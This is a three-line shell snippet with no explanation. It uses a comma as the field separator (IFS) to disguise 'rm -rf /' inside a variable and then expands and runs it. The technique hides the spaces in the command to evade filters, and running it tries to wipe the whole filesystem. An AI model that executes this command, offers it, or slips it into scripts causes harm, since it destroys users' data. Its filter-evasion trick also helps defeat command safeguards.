IFS=,
cmd="rm,-rf,/"
$cmd
